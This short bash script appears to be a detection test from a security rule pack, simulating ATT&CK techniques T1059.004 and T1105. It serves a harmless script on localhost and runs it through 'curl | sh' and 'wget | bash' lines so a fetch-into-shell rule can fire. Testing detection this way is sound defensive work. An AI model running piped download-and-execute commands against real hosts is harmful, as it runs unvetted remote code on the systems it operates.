#!/usr/bin/env bash
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# technique: T1105 Ingress Tool Transfer
# rules: vigil_fetch_into_shell
# Acts out: `curl URL | sh` and `wget -qO- URL | bash` from a script file, where no command
# line shows the pipe: only the two sibling processes give it away.
source lib/common.sh
mkdir www
echo 'echo vigil-rulepack stage ran' > www/stage.sh
serve_dir www
cat > update.sh <<SCRIPT
curl -fsS http://127.0.0.1:$PORT/stage.sh | sh
wget -qO- http://127.0.0.1:$PORT/stage.sh | bash
SCRIPT
bash update.sh
